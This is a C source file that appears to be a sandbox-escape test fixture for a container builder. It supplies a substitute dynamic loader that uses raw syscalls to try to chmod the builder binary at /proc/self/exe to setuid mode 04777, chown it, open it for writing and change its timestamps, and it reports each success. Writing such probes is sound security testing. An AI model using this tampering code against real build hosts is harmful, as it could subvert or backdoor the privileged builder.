// SPDX-License-Identifier: Apache-2.0
// Not an attack by itself: the loader that interpreter-is-the-builder.dockerfile puts in the place of the C library's. It runs in a process whose
// /proc/self/exe is the builder's program, and tries to change that. Freestanding: nothing has prepared the process for it.
#ifdef __x86_64__
#include <fcntl.h>
#include <sys/syscall.h>

static long call(long number, long a, long b, long c, long d) {
    long result;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return result;
}

static void say(const char *text) {
    long length = 0;
    while (text[length])
        length++;
    call(SYS_write, 1, (long)text, length, 0);
}

void _start(void) {
    say("loaded\n");
    if (call(SYS_chmod, (long)"/proc/self/exe", 04777, 0, 0) == 0)
        say("REACHED: changed the builder's mode\n");
    if (call(SYS_chown, (long)"/proc/self/exe", 1000, 1000, 0) == 0)
        say("REACHED: changed the builder's owner\n");
    if (call(SYS_open, (long)"/proc/self/exe", O_WRONLY, 0, 0) >= 0)
        say("REACHED: opened the builder to write\n");
    if (call(SYS_utimensat, AT_FDCWD, (long)"/proc/self/exe", 0, 0) == 0)
        say("REACHED: touched the builder\n");
    say("attack over\n");
    call(SYS_exit_group, 0, 0, 0, 0);
}
#else
int main(void) {
    return 0;
}
#endif
